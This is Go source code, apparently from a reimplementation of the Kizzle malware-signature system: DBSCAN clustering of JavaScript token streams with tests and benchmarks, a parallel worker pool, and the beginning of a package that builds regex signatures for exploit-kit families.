	return ClusterWeighted(data, nil, minPts)
}

// ClusterWeighted runs DBSCAN where each point stands for weight[i]
// identical samples (Kizzle deduplicates identical token streams before
// clustering; a point's density must count its duplicates). A nil weights
// slice means unit weights.
func ClusterWeighted(data Neighborer, weights []int, minPts int) []int {
	n := data.Len()
	ids := make([]int, n)
	for i := range ids {
		ids[i] = Noise
	}
	visited := make([]bool, n)
	next := 0
	for i := 0; i < n; i++ {
		if visited[i] {
			continue
		}
		visited[i] = true
		neighbors := data.Neighbors(i)
		if neighborhoodWeight(i, neighbors, weights) < minPts {
			continue // not a core point; stays noise unless adopted later
		}
		expand(data, i, neighbors, next, minPts, ids, visited, weights)
		next++
	}
	return ids
}

// neighborhoodWeight is the weighted size of a point's eps-neighborhood,
// the point itself included. nil weights mean unit weights, in which case
// no per-point lookups happen at all — this sits inside DBSCAN's innermost
// loop.
func neighborhoodWeight(i int, neighbors []int, weights []int) int {
	if weights == nil {
		return len(neighbors) + 1
	}
	total := weights[i]
	for _, j := range neighbors {
		total += weights[j]
	}
	return total
}

// expand grows cluster id from core point seed over all density-reachable
// points, iteratively (the recursive formulation overflows on the large
// tight clusters grayware streams produce). Reachable points are claimed
// for the cluster at enqueue time, which keeps every point in the queue at
// most once: on the tight clusters grayware streams produce, the naive
// queue holds one entry per edge of the neighborhood graph, orders of
// magnitude more than the one-per-point it needs.
func expand(data Neighborer, seed int, neighbors []int, id, minPts int, ids []int, visited []bool, weights []int) {
	ids[seed] = id
	var queue []int
	absorb := func(candidates []int) {
		for _, q := range candidates {
			if ids[q] == id {
				continue // already claimed by this expansion
			}
			if visited[q] {
				if ids[q] == Noise {
					ids[q] = id // border point adoption
				}
				continue
			}
			ids[q] = id
			queue = append(queue, q)
		}
	}
	absorb(neighbors)
	for head := 0; head < len(queue); head++ {
		p := queue[head]
		visited[p] = true
		pn := data.Neighbors(p)
		if neighborhoodWeight(p, pn, weights) >= minPts {
			absorb(pn)
		}
	}
}

// Groups converts per-point cluster IDs into index groups, dropping noise.
func Groups(ids []int) [][]int {
	maxID := -1
	for _, id := range ids {
		if id > maxID {
			maxID = id
		}
	}
	groups := make([][]int, maxID+1)
	for i, id := range ids {
		if id >= 0 {
			groups[id] = append(groups[id], i)
		}
	}
	return groups
}

// FuncNeighborer adapts a size and a pairwise predicate into a Neighborer
// with no indexing. Region queries are linear scans; fine for the
// per-partition sizes Kizzle's pipeline produces.
type FuncNeighborer struct {
	N      int
	Within func(i, j int) bool
}

var _ Neighborer = (*FuncNeighborer)(nil)

// Len implements Neighborer.
func (f *FuncNeighborer) Len() int { return f.N }

// Neighbors implements Neighborer.
func (f *FuncNeighborer) Neighbors(i int) []int {
	var out []int
	for j := 0; j < f.N; j++ {
		if j != i && f.Within(i, j) {
			out = append(out, j)
		}
	}
	return out
}

// CachedNeighborer wraps a Neighborer and memoizes region queries. DBSCAN
// issues the same region query at most twice per point (once when visiting,
// once when expanding); caching halves distance computations, the dominant
// cost in Kizzle's clustering stage. The cache is slice-backed — point
// indices are dense, so a map buys nothing but hashing overhead.
type CachedNeighborer struct {
	Inner  Neighborer
	cache  [][]int
	filled []bool
}

var _ Neighborer = (*CachedNeighborer)(nil)

// Len implements Neighborer.
func (c *CachedNeighborer) Len() int { return c.Inner.Len() }

// Neighbors implements Neighborer.
func (c *CachedNeighborer) Neighbors(i int) []int {
	if c.cache == nil {
		n := c.Inner.Len()
		c.cache = make([][]int, n)
		c.filled = make([]bool, n)
	}
	if c.filled[i] {
		return c.cache[i]
	}
	got := c.Inner.Neighbors(i)
	c.cache[i] = got
	c.filled[i] = true
	return got
}

// StaticNeighborer serves region queries from precomputed adjacency lists,
// the output of PrecomputeNeighbors.
type StaticNeighborer [][]int

var _ Neighborer = (StaticNeighborer)(nil)

// Len implements Neighborer.
func (s StaticNeighborer) Len() int { return len(s) }

// Neighbors implements Neighborer.
func (s StaticNeighborer) Neighbors(i int) []int { return s[i] }

// PrecomputeNeighbors evaluates the full region-query graph in parallel and
// returns it as adjacency lists. Every unordered pair is tested at most
// once (rows only test j > i; reverse edges are merged afterwards), so the
// total distance work matches a serial cached run while the wall-clock
// divides across workers. within receives the worker index so callers can
// give each worker its own scratch state. Neighbor lists come back in
// ascending order — the same order a serial linear scan produces — so
// DBSCAN results are identical to the unparallelized run.
func PrecomputeNeighbors(n, workers int, candidates func(i int) []int, within func(worker, i, j int) bool) StaticNeighborer {
	if workers > n {
		workers = n
	}
	if workers < 1 {
		workers = 1
	}
	// Each worker accumulates hits in a reusable buffer, then copies the
	// row out exactly sized — append growth inside the hot loop was a
	// measurable share of the clustering stage.
	// Rows are handed out in blocks to keep cache locality without
	// letting the triangular workload skew (row 0 tests n-1 pairs, the
	// last row none).
	fwd := make([][]int, n)
	scratch := make([][]int, workers)
	arenas := make([]edgeArena, workers)
	parallel.ForEach(n, workers, 8, func(worker, i int) {
		hits := scratch[worker][:0]
		if candidates != nil {
			for _, j := range candidates(i) {
				if j > i && within(worker, i, j) {
					hits = append(hits, j)
				}
			}
			// Candidate hooks hand out points in index-arbitrary order
			// (e.g. sorted by sequence length); rows must stay ascending
			// for result parity with the serial linear scan.
			sort.Ints(hits)
		} else {
			for j := i + 1; j < n; j++ {
				if within(worker, i, j) {
					hits = append(hits, j)
				}
			}
		}
		scratch[worker] = hits
		fwd[i] = arenas[worker].save(hits)
	})
	// Merge reverse edges into one flat arena: adj[j] is [ascending i<j]
	// followed by [ascending j'>j], exactly the order a serial linear
	// region query produces, so DBSCAN over the result is bit-identical.
	deg := make([]int, n)
	total := 0
	for i, hits := range fwd {
		deg[i] += len(hits)
		total += 2 * len(hits)
		for _, j := range hits {
			deg[j]++
		}
	}
	flat := make([]int, total)
	adj := make(StaticNeighborer, n)
	pos := make([]int, n)
	offset := 0
	for i := range adj {
		adj[i] = flat[offset : offset : offset+deg[i]]
		pos[i] = offset
		offset += deg[i]
	}
	for i, hits := range fwd {
		for _, j := range hits {
			flat[pos[j]] = i
			pos[j]++
		}
	}
	for i, hits := range fwd {
		adj[i] = adj[i][:deg[i]]
		copy(adj[i][deg[i]-len(hits):], hits)
	}
	return adj
}

// edgeArena block-allocates immutable row copies. Earlier blocks stay
// valid when a new one is opened, so saved rows never move.
type edgeArena struct {
	buf []int
}

func (a *edgeArena) save(hits []int) []int {
	if len(hits) == 0 {
		return nil
	}
	if cap(a.buf)-len(a.buf) < len(hits) {
		size := 4096
		if len(hits) > size {
			size = len(hits)
		}
		a.buf = make([]int, 0, size)
	}
	start := len(a.buf)
	a.buf = append(a.buf, hits...)
	return a.buf[start:len(a.buf):len(a.buf)]
}
