// Package dbscan implements density-based spatial clustering (DBSCAN,
// Ester et al. 1996), the off-the-shelf clustering strategy Kizzle uses to
// group token streams. The paper deliberately uses a pre-existing algorithm
// "to reduce the engineering cost and limit the fragility of the end-to-end
// system"; this implementation follows the original paper's definitions of
// core points, direct density reachability, and noise.
package dbscan

// Neighborer answers region queries for the data set being clustered.
// Implementations typically wrap an eps-thresholded distance oracle (for
// Kizzle: normalized token edit distance <= eps).
type Neighborer interface {
	// Len returns the number of points.
	Len() int
	// Neighbors returns the indices of all points within eps of point i,
	// excluding i itself.
	Neighbors(i int) []int
}

// Noise is the cluster ID assigned to points that belong to no cluster.
const Noise = -1

// Cluster runs DBSCAN and returns a cluster ID per point. IDs are dense and
// start at 0; noise points get Noise. minPts is the minimum neighborhood
// size (including the point itself) for a point to be a core point.
func Cluster(data Neighborer, minPts int) []int {
	return ClusterWeighted(data, nil, minPts)
}

// ClusterWeighted runs DBSCAN where each point stands for weight[i]
// identical samples (Kizzle deduplicates identical token streams before
// clustering; a point's density must count its duplicates). A nil weights
// slice means unit weights.
func ClusterWeighted(data Neighborer, weights []int, minPts int) []int {
	n := data.Len()
	ids := make([]int, n)
	for i := range ids {
		ids[i] = Noise
	}
	w := func(i int) int {
		if weights == nil {
			return 1
		}
		return weights[i]
	}
	visited := make([]bool, n)
	next := 0
	for i := 0; i < n; i++ {
		if visited[i] {
			continue
		}
		visited[i] = true
		neighbors := data.Neighbors(i)
		if weightSum(neighbors, w)+w(i) < minPts {
			continue // not a core point; stays noise unless adopted later
		}
		expand(data, i, neighbors, next, minPts, ids, visited, w)
		next++
	}
	return ids
}

func weightSum(idx []int, w func(int) int) int {
	total := 0
	for _, i := range idx {
		total += w(i)
	}
	return total
}

// expand grows cluster id from core point seed over all density-reachable
// points, iteratively (the recursive formulation overflows on the large
// tight clusters grayware streams produce).
func expand(data Neighborer, seed int, neighbors []int, id, minPts int, ids []int, visited []bool, w func(int) int) {
	ids[seed] = id
	queue := append([]int(nil), neighbors...)
	for head := 0; head < len(queue); head++ {
		p := queue[head]
		if ids[p] == Noise {
			ids[p] = id // border or previously-noise point joins the cluster
		}
		if visited[p] {
			continue
		}
		visited[p] = true
		pn := data.Neighbors(p)
		if weightSum(pn, w)+w(p) >= minPts {
			queue = append(queue, pn...)
		}
	}
}

// Groups converts per-point cluster IDs into index groups, dropping noise.
func Groups(ids []int) [][]int {
	maxID := -1
	for _, id := range ids {
		if id > maxID {
			maxID = id
		}
	}
	groups := make([][]int, maxID+1)
	for i, id := range ids {
		if id >= 0 {
			groups[id] = append(groups[id], i)
		}
	}
	return groups
}

// FuncNeighborer adapts a size and a pairwise predicate into a Neighborer
// with no indexing. Region queries are linear scans; fine for the
// per-partition sizes Kizzle's pipeline produces.
type FuncNeighborer struct {
	N      int
	Within func(i, j int) bool
}

var _ Neighborer = (*FuncNeighborer)(nil)

// Len implements Neighborer.
func (f *FuncNeighborer) Len() int { return f.N }

// Neighbors implements Neighborer.
func (f *FuncNeighborer) Neighbors(i int) []int {
	var out []int
	for j := 0; j < f.N; j++ {
		if j != i && f.Within(i, j) {
			out = append(out, j)
		}
	}
	return out
}

// CachedNeighborer wraps a Neighborer and memoizes region queries. DBSCAN
// issues the same region query at most twice per point (once when visiting,
// once when expanding); caching halves distance computations, the dominant
// cost in Kizzle's clustering stage.
type CachedNeighborer struct {
	Inner Neighborer
	cache map[int][]int
}

var _ Neighborer = (*CachedNeighborer)(nil)

// Len implements Neighborer.
func (c *CachedNeighborer) Len() int { return c.Inner.Len() }

// Neighbors implements Neighborer.
func (c *CachedNeighborer) Neighbors(i int) []int {
	if c.cache == nil {
		c.cache = make(map[int][]int)
	}
	if got, ok := c.cache[i]; ok {
		return got
	}
	got := c.Inner.Neighbors(i)
	c.cache[i] = got
	return got
}
