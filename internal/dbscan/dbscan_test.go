package dbscan

import (
	"math"
	"math/rand"
	"runtime"
	"sort"
	"testing"
)

// pointSet clusters 1-D float points with absolute-difference distance.
type pointSet struct {
	pts []float64
	eps float64
}

func (p *pointSet) Len() int { return len(p.pts) }

func (p *pointSet) Neighbors(i int) []int {
	var out []int
	for j := range p.pts {
		if j != i && math.Abs(p.pts[i]-p.pts[j]) <= p.eps {
			out = append(out, j)
		}
	}
	return out
}

func TestClusterTwoBlobs(t *testing.T) {
	// Two tight blobs far apart plus one outlier.
	pts := []float64{0, 0.1, 0.2, 0.05, 10, 10.1, 10.2, 10.15, 55}
	ids := Cluster(&pointSet{pts: pts, eps: 0.5}, 3)
	if ids[8] != Noise {
		t.Errorf("outlier got cluster %d, want noise", ids[8])
	}
	if ids[0] == Noise || ids[4] == Noise {
		t.Fatalf("blob members marked noise: %v", ids)
	}
	if ids[0] == ids[4] {
		t.Error("distant blobs merged into one cluster")
	}
	for i := 1; i < 4; i++ {
		if ids[i] != ids[0] {
			t.Errorf("point %d in wrong cluster: %v", i, ids)
		}
	}
	for i := 5; i < 8; i++ {
		if ids[i] != ids[4] {
			t.Errorf("point %d in wrong cluster: %v", i, ids)
		}
	}
}

func TestClusterAllNoiseWhenSparse(t *testing.T) {
	pts := []float64{0, 10, 20, 30}
	ids := Cluster(&pointSet{pts: pts, eps: 1}, 2)
	for i, id := range ids {
		if id != Noise {
			t.Errorf("point %d = cluster %d, want noise", i, id)
		}
	}
}

func TestClusterSinglePointMinPtsOne(t *testing.T) {
	ids := Cluster(&pointSet{pts: []float64{5}, eps: 1}, 1)
	if ids[0] != 0 {
		t.Errorf("minPts=1 single point should form cluster 0, got %d", ids[0])
	}
}

func TestClusterEmpty(t *testing.T) {
	ids := Cluster(&pointSet{}, 3)
	if len(ids) != 0 {
		t.Errorf("empty input produced %v", ids)
	}
}

func TestClusterChainReachability(t *testing.T) {
	// A chain of points each within eps of the next must form one cluster.
	pts := make([]float64, 50)
	for i := range pts {
		pts[i] = float64(i) * 0.9
	}
	ids := Cluster(&pointSet{pts: pts, eps: 1.0}, 3)
	for i, id := range ids {
		if id != 0 {
			t.Fatalf("chain point %d got cluster %d, want 0", i, id)
		}
	}
}

func TestBorderPointAdoption(t *testing.T) {
	// Point 3 is within eps of a core point but is not core itself
	// (only one neighbor): it must be adopted as a border point.
	pts := []float64{0, 0.1, 0.2, 0.9}
	ids := Cluster(&pointSet{pts: pts, eps: 0.75}, 3)
	if ids[3] == Noise || ids[3] != ids[0] {
		t.Errorf("border point not adopted: %v", ids)
	}
}

func TestGroups(t *testing.T) {
	groups := Groups([]int{0, 1, 0, Noise, 1, 2})
	want := [][]int{{0, 2}, {1, 4}, {5}}
	if len(groups) != len(want) {
		t.Fatalf("groups = %v, want %v", groups, want)
	}
	for i := range want {
		got := append([]int(nil), groups[i]...)
		sort.Ints(got)
		if len(got) != len(want[i]) {
			t.Fatalf("group %d = %v, want %v", i, got, want[i])
		}
		for j := range got {
			if got[j] != want[i][j] {
				t.Fatalf("group %d = %v, want %v", i, got, want[i])
			}
		}
	}
}

func TestGroupsEmpty(t *testing.T) {
	if g := Groups(nil); len(g) != 0 {
		t.Errorf("Groups(nil) = %v", g)
	}
	if g := Groups([]int{Noise, Noise}); len(g) != 0 {
		t.Errorf("Groups(noise) = %v", g)
	}
}

func TestFuncNeighborer(t *testing.T) {
	f := &FuncNeighborer{N: 4, Within: func(i, j int) bool { return (i+j)%2 == 0 }}
	got := f.Neighbors(0)
	if len(got) != 1 || got[0] != 2 {
		t.Errorf("Neighbors(0) = %v, want [2]", got)
	}
}

func TestCachedNeighborerConsistency(t *testing.T) {
	calls := 0
	inner := &FuncNeighborer{N: 6, Within: func(i, j int) bool {
		calls++
		return j == i+1 || j == i-1
	}}
	c := &CachedNeighborer{Inner: inner}
	first := c.Neighbors(2)
	callsAfterFirst := calls
	second := c.Neighbors(2)
	if calls != callsAfterFirst {
		t.Error("cached query recomputed distances")
	}
	if len(first) != len(second) {
		t.Errorf("cached result differs: %v vs %v", first, second)
	}
}

// Property: every non-noise point is within eps of at least one other point
// in its cluster, and clustering is deterministic for a fixed scan order.
func TestClusterInvariants(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	for iter := 0; iter < 50; iter++ {
		pts := make([]float64, 5+rng.Intn(60))
		for i := range pts {
			pts[i] = rng.Float64() * 20
		}
		set := &pointSet{pts: pts, eps: 0.8}
		ids := Cluster(set, 3)
		ids2 := Cluster(set, 3)
		for i := range ids {
			if ids[i] != ids2[i] {
				t.Fatal("clustering not deterministic")
			}
			if ids[i] == Noise {
				continue
			}
			ok := false
			for j := range pts {
				if j != i && ids[j] == ids[i] && math.Abs(pts[i]-pts[j]) <= set.eps {
					ok = true
					break
				}
			}
			// Singleton clusters only possible with minPts=1.
			if !ok {
				t.Fatalf("point %d in cluster %d has no in-cluster neighbor", i, ids[i])
			}
		}
	}
}

// BenchmarkCluster1000 clusters 1000 gaussian points through the full
// kernel: a sorted candidate index prunes region queries to the eps
// window, the pruned pairs are evaluated once each by the parallel
// precompute, and DBSCAN runs over the static adjacency. This is the same
// shape the pipeline uses (with sequence length as the sort key).
func BenchmarkCluster1000(b *testing.B) {
	rng := rand.New(rand.NewSource(5))
	pts := make([]float64, 1000)
	for i := range pts {
		pts[i] = rng.NormFloat64() * 10
	}
	workers := runtime.GOMAXPROCS(0)
	want := Cluster(&CachedNeighborer{Inner: &pointSet{pts: pts, eps: 0.5}}, 4)
	b.ReportAllocs()
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		order := make([]int, len(pts))
		for i := range order {
			order[i] = i
		}
		sort.Slice(order, func(a, b int) bool { return pts[order[a]] < pts[order[b]] })
		vals := make([]float64, len(pts))
		for k, i := range order {
			vals[k] = pts[i]
		}
		candidates := func(i int) []int {
			lo := sort.SearchFloat64s(vals, pts[i]-0.5)
			hi := sort.SearchFloat64s(vals, pts[i]+0.5)
			for hi < len(vals) && vals[hi] <= pts[i]+0.5 {
				hi++
			}
			return order[lo:hi]
		}
		adj := PrecomputeNeighbors(len(pts), workers, candidates, func(_, i, j int) bool {
			return math.Abs(pts[i]-pts[j]) <= 0.5
		})
		ids := Cluster(adj, 4)
		for i := range ids {
			if ids[i] != want[i] {
				b.Fatalf("point %d: got cluster %d, want %d", i, ids[i], want[i])
			}
		}
	}
}

// BenchmarkCluster1000Serial is the pre-kernel baseline path (cached
// serial region queries) kept for comparison.
func BenchmarkCluster1000Serial(b *testing.B) {
	rng := rand.New(rand.NewSource(5))
	pts := make([]float64, 1000)
	for i := range pts {
		pts[i] = rng.NormFloat64() * 10
	}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Cluster(&CachedNeighborer{Inner: &pointSet{pts: pts, eps: 0.5}}, 4)
	}
}

// TestPrecomputeMatchesSerial: the parallel precomputed graph must cluster
// identically to the serial cached path, for any worker count.
func TestPrecomputeMatchesSerial(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	for iter := 0; iter < 20; iter++ {
		pts := make([]float64, 3+rng.Intn(120))
		for i := range pts {
			pts[i] = rng.Float64() * 15
		}
		set := &pointSet{pts: pts, eps: 0.6}
		want := Cluster(&CachedNeighborer{Inner: set}, 3)
		for _, workers := range []int{1, 2, 7} {
			adj := PrecomputeNeighbors(len(pts), workers, nil, func(_, i, j int) bool {
				return math.Abs(pts[i]-pts[j]) <= set.eps
			})
			got := Cluster(adj, 3)
			for i := range want {
				if got[i] != want[i] {
					t.Fatalf("workers=%d point %d: got cluster %d, want %d", workers, i, got[i], want[i])
				}
			}
			// Adjacency must match the serial linear scan exactly,
			// including order.
			for i := range pts {
				serial := set.Neighbors(i)
				if len(serial) != len(adj[i]) {
					t.Fatalf("workers=%d point %d: %v vs %v", workers, i, adj[i], serial)
				}
				for k := range serial {
					if serial[k] != adj[i][k] {
						t.Fatalf("workers=%d point %d: %v vs %v", workers, i, adj[i], serial)
					}
				}
			}
		}
	}
}

// TestPrecomputePairEvaluations: the precompute kernel evaluates each
// unordered pair at most once, and a candidate hook restricts which pairs
// are ever evaluated.
func TestPrecomputePairEvaluations(t *testing.T) {
	pts := []float64{0, 0.2, 0.4, 3, 3.1, 9}
	calls := make(map[[2]int]int)
	adj := PrecomputeNeighbors(len(pts), 1, nil, func(_, i, j int) bool {
		key := [2]int{i, j}
		if i > j {
			key = [2]int{j, i}
		}
		calls[key]++
		return math.Abs(pts[i]-pts[j]) <= 0.5
	})
	plain := &pointSet{pts: pts, eps: 0.5}
	for i := range pts {
		got := adj.Neighbors(i)
		want := plain.Neighbors(i)
		if len(got) != len(want) {
			t.Fatalf("point %d: %v vs %v", i, got, want)
		}
		for k := range want {
			if got[k] != want[k] {
				t.Fatalf("point %d: %v vs %v", i, got, want)
			}
		}
	}
	total := len(pts) * (len(pts) - 1) / 2
	if len(calls) != total {
		t.Errorf("evaluated %d distinct pairs, want %d", len(calls), total)
	}
	for pair, n := range calls {
		if n > 1 {
			t.Errorf("pair %v evaluated %d times", pair, n)
		}
	}

	// With a coarse candidate prefilter, distant pairs are never tested
	// (workers=1 so the plain counter is race-free).
	evaluated := 0
	adj = PrecomputeNeighbors(len(pts), 1, func(i int) []int {
		var out []int
		for j := range pts {
			if math.Abs(pts[i]-pts[j]) <= 1 {
				out = append(out, j)
			}
		}
		return out
	}, func(_, i, j int) bool {
		evaluated++
		return math.Abs(pts[i]-pts[j]) <= 0.5
	})
	ids := Cluster(adj, 2)
	if ids[0] == Noise || ids[0] != ids[1] || ids[1] != ids[2] {
		t.Errorf("first blob not clustered: %v", ids)
	}
	if ids[3] == Noise || ids[3] != ids[4] || ids[0] == ids[3] {
		t.Errorf("second blob wrong: %v", ids)
	}
	if ids[5] != Noise {
		t.Errorf("outlier clustered: %v", ids)
	}
	if evaluated >= total {
		t.Errorf("candidate pruning did not reduce evaluations: %d", evaluated)
	}
}

func TestStaticNeighborer(t *testing.T) {
	s := StaticNeighborer{{1}, {0, 2}, {1}}
	if s.Len() != 3 {
		t.Fatalf("Len = %d", s.Len())
	}
	got := s.Neighbors(1)
	if len(got) != 2 || got[0] != 0 || got[1] != 2 {
		t.Fatalf("Neighbors(1) = %v", got)
	}
}

func TestClusterWeighted(t *testing.T) {
	// Two points close together: with unit weights and minPts=4 they stay
	// noise; a weight of 3 on one of them makes both core.
	pts := []float64{0, 0.1}
	set := &pointSet{pts: pts, eps: 0.5}
	ids := ClusterWeighted(set, nil, 4)
	if ids[0] != Noise || ids[1] != Noise {
		t.Fatalf("unit weights: ids = %v, want noise", ids)
	}
	ids = ClusterWeighted(set, []int{3, 1}, 4)
	if ids[0] != 0 || ids[1] != 0 {
		t.Fatalf("weighted: ids = %v, want one cluster", ids)
	}
}

func TestClusterWeightedMatchesDuplication(t *testing.T) {
	// Weighted clustering of unique points must equal unit clustering of
	// the expanded multiset.
	unique := []float64{0, 0.2, 5, 5.1, 9}
	weights := []int{3, 1, 2, 2, 1}
	var expanded []float64
	for i, p := range unique {
		for k := 0; k < weights[i]; k++ {
			expanded = append(expanded, p)
		}
	}
	uw := ClusterWeighted(&pointSet{pts: unique, eps: 0.5}, weights, 3)
	ex := Cluster(&pointSet{pts: expanded, eps: 0.5}, 3)
	// Point 0 (weight 3) must be clustered in both.
	if (uw[0] == Noise) != (ex[0] == Noise) {
		t.Errorf("weighted %v vs expanded %v disagree on point 0", uw, ex)
	}
	if (uw[2] == Noise) != (ex[4] == Noise) {
		t.Errorf("weighted %v vs expanded %v disagree on the 5-blob", uw, ex)
	}
	if uw[4] != Noise || ex[len(ex)-1] != Noise {
		t.Error("singleton must stay noise in both")
	}
}
