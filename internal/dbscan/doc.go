// Package dbscan implements density-based spatial clustering (DBSCAN,
// Ester et al. 1996), the off-the-shelf clustering strategy Kizzle uses to
// group token streams. The paper deliberately uses a pre-existing algorithm
// "to reduce the engineering cost and limit the fragility of the end-to-end
// system"; this implementation follows the original paper's definitions of
// core points, direct density reachability, and noise.
package dbscan
