// Package parallel provides the one worker-pool shape Kizzle's hot paths
// share: N independent index-addressed tasks fanned out across a bounded
// set of workers, handed out in blocks from an atomic counter.
package parallel
