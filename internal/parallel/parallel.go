package parallel

import (
	"sync"
	"sync/atomic"
)

// ForEach runs fn(worker, i) for every i in [0, n), fanning out across at
// most workers goroutines. block controls how many consecutive indices one
// handout covers: 1 balances coarse, variable-cost tasks (scanning whole
// documents); larger blocks keep cache locality for fine-grained rows
// (pairwise distance sweeps). fn receives the worker's index so callers
// can give each worker private scratch state.
func ForEach(n, workers, block int, fn func(worker, i int)) {
	if n <= 0 {
		return
	}
	if workers > n {
		workers = n
	}
	if block < 1 {
		block = 1
	}
	if workers <= 1 {
		for i := 0; i < n; i++ {
			fn(0, i)
		}
		return
	}
	var next atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(worker int) {
			defer wg.Done()
			for {
				start := int(next.Add(int64(block))) - block
				if start >= n {
					return
				}
				end := start + block
				if end > n {
					end = n
				}
				for i := start; i < end; i++ {
					fn(worker, i)
				}
			}
		}(w)
	}
	wg.Wait()
}
