// Package siggen implements Kizzle's signature creation algorithm
// (paper §III-C): for a malicious cluster it finds the longest common token
// substring (capped, unique in every sample), collects the distinct
// concrete strings at every token offset, and compiles the result into a
// structural regular-expression signature — literals where samples agree,
// inferred character classes where they diverge, and back-references where
// packers reuse templatized variable names (Figures 9 and 10).
package siggen
