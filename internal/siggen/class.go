package siggen

// charClass is one of the predefined regex character-class templates the
// paper draws on when the concrete strings at a token offset differ across
// samples ("a predefined set of common patterns such as [a-z]+,
// [a-zA-Z0-9]+, etc."). Classes are ordered from most to least specific;
// inference brute-forces the first one that accepts every observed string.
type charClass struct {
	// Name is the rendered regex form, e.g. "[0-9a-zA-Z]".
	Name string
	// Match reports whether the class accepts byte c.
	Match func(c byte) bool
}

// AnyClassName is the rendered form of the catch-all class.
const AnyClassName = "."

var classTemplates = []charClass{
	{"[0-9]", func(c byte) bool { return c >= '0' && c <= '9' }},
	{"[a-z]", func(c byte) bool { return c >= 'a' && c <= 'z' }},
	{"[A-Z]", func(c byte) bool { return c >= 'A' && c <= 'Z' }},
	{"[a-zA-Z]", isAlpha},
	{"[0-9a-z]", func(c byte) bool { return isDigit(c) || (c >= 'a' && c <= 'z') }},
	{"[0-9A-Z]", func(c byte) bool { return isDigit(c) || (c >= 'A' && c <= 'Z') }},
	{"[0-9a-zA-Z]", isAlnum},
	{"[0-9a-zA-Z_$]", func(c byte) bool { return isAlnum(c) || c == '_' || c == '$' }},
	{`[0-9a-zA-Z"']`, func(c byte) bool { return isAlnum(c) || c == '"' || c == '\'' }},
	{AnyClassName, func(c byte) bool { return true }},
}

func isDigit(c byte) bool { return c >= '0' && c <= '9' }
func isAlpha(c byte) bool { return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') }
func isAlnum(c byte) bool { return isDigit(c) || isAlpha(c) }

// inferClass returns the most specific template class accepting every byte
// of every value. Values must be non-empty as a set but may contain empty
// strings (which any class accepts length-wise).
func inferClass(values []string) charClass {
	for _, cls := range classTemplates {
		ok := true
	values:
		for _, v := range values {
			for i := 0; i < len(v); i++ {
				if !cls.Match(v[i]) {
					ok = false
					break values
				}
			}
		}
		if ok {
			return cls
		}
	}
	// Unreachable: the catch-all accepts everything.
	return classTemplates[len(classTemplates)-1]
}

// ClassByName resolves a rendered class name back to its template; used by
// the matcher when signatures are deserialized. The boolean reports whether
// the name is known.
func ClassByName(name string) (charClass, bool) {
	for _, cls := range classTemplates {
		if cls.Name == name {
			return cls, true
		}
	}
	return charClass{}, false
}
