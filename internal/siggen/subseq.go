package siggen

import (
	"kizzle/internal/jstoken"
)

// CommonRun is the longest common token substring found across a cluster:
// its length and, for each sample, the start offset of its (unique)
// occurrence.
type CommonRun struct {
	// Length in tokens.
	Length int
	// Starts[i] is the token offset of the run in sample i.
	Starts []int
}

// FindCommonRun searches for the maximum N (capped at maxTokens) such that
// all abstract token sequences share a common substring of N symbols that
// occurs exactly once in every sequence, using binary search over N as in
// the paper. It returns false if no common unique substring of at least
// minTokens exists.
func FindCommonRun(seqs [][]jstoken.Symbol, minTokens, maxTokens int) (CommonRun, bool) {
	if len(seqs) == 0 || minTokens <= 0 {
		return CommonRun{}, false
	}
	shortest := 0
	for i, s := range seqs {
		if len(s) < len(seqs[shortest]) {
			shortest = i
		}
		_ = s
	}
	hi := len(seqs[shortest])
	if hi > maxTokens {
		hi = maxTokens
	}
	if hi < minTokens {
		return CommonRun{}, false
	}

	var best CommonRun
	found := false
	lo := minTokens
	for lo <= hi {
		mid := (lo + hi) / 2
		if run, ok := commonRunOfLength(seqs, shortest, mid); ok {
			best, found = run, true
			lo = mid + 1
		} else {
			hi = mid - 1
		}
	}
	return best, found
}

// commonRunOfLength checks whether a common substring of exactly n symbols
// exists that is unique in every sequence. Candidates are enumerated from
// the shortest sequence; the first qualifying candidate (leftmost) wins,
// which keeps signature generation deterministic.
func commonRunOfLength(seqs [][]jstoken.Symbol, shortest, n int) (CommonRun, bool) {
	base := seqs[shortest]
	seen := make(map[uint64]bool)
candidates:
	for start := 0; start+n <= len(base); start++ {
		window := base[start : start+n]
		h := hashSymbols(window)
		if seen[h] {
			continue
		}
		seen[h] = true
		starts := make([]int, len(seqs))
		for i, s := range seqs {
			pos, count := occurrences(s, window)
			if count != 1 {
				continue candidates
			}
			starts[i] = pos
		}
		return CommonRun{Length: n, Starts: starts}, true
	}
	return CommonRun{}, false
}

// occurrences returns the first match position of needle in haystack and
// the number of matches, stopping early after the second match (we only
// care about zero / one / many).
func occurrences(haystack, needle []jstoken.Symbol) (first, count int) {
	first = -1
	for i := 0; i+len(needle) <= len(haystack); i++ {
		if symbolsEqual(haystack[i:i+len(needle)], needle) {
			if count == 0 {
				first = i
			}
			count++
			if count > 1 {
				return first, count
			}
		}
	}
	return first, count
}

func symbolsEqual(a, b []jstoken.Symbol) bool {
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func hashSymbols(s []jstoken.Symbol) uint64 {
	const prime = 1099511628211
	h := uint64(14695981039346656037)
	for _, x := range s {
		h ^= uint64(x)
		h *= prime
	}
	return h
}
