package siggen

import (
	"errors"
	"fmt"
	"regexp"
	"strings"

	"kizzle/internal/jstoken"
)

// ElementKind discriminates signature elements.
type ElementKind int

// Element kinds.
const (
	// KindLiteral matches one exact normalized token text.
	KindLiteral ElementKind = iota + 1
	// KindClass matches any string over a character class with a length
	// in [MinLen, MaxLen].
	KindClass
	// KindBackref matches exactly the string captured by an earlier
	// KindClass element with the same Group.
	KindBackref
)

// Element is one token position of a structural signature.
type Element struct {
	Kind ElementKind `json:"kind"`
	// Literal is the exact normalized token text (KindLiteral).
	Literal string `json:"literal,omitempty"`
	// Class is the rendered character class name (KindClass).
	Class string `json:"class,omitempty"`
	// MinLen/MaxLen bound the matched length (KindClass).
	MinLen int `json:"minLen,omitempty"`
	MaxLen int `json:"maxLen,omitempty"`
	// Group numbers capturing class elements; -1 when the element is
	// neither captured nor a reference.
	Group int `json:"group"`
}

// Signature is a compiled structural signature for one malicious cluster.
type Signature struct {
	// Family is the exploit-kit family label of the source cluster.
	Family string `json:"family"`
	// Elements, one per token offset of the common run.
	Elements []Element `json:"elements"`
